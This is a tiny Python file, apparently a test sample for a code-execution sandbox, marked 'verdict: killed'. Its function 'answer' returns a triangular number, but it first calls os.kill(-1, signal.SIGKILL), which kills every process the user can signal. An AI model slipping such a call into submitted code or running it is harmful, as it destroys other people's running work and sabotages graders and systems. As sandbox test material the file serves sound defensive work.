# verdict: killed
# Kills every process it can see.
import os
import signal


def answer(n: int) -> int:
    os.kill(-1, signal.SIGKILL)
    return n * (n + 1) // 2
